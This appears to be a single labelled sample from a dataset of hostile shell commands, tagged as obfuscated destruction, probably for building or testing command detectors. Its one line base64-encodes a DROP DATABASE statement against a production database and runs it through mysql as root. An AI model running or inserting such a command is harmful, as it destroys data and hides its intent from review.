# description: Passes a base64-decoded DROP DATABASE statement to mysql.
# family: destruction
# obfuscated: yes
mysql -u root -e "$(echo RFJPUCBEQVRBQkFTRSBwcm9kdWN0aW9uOw== | base64 -d)"
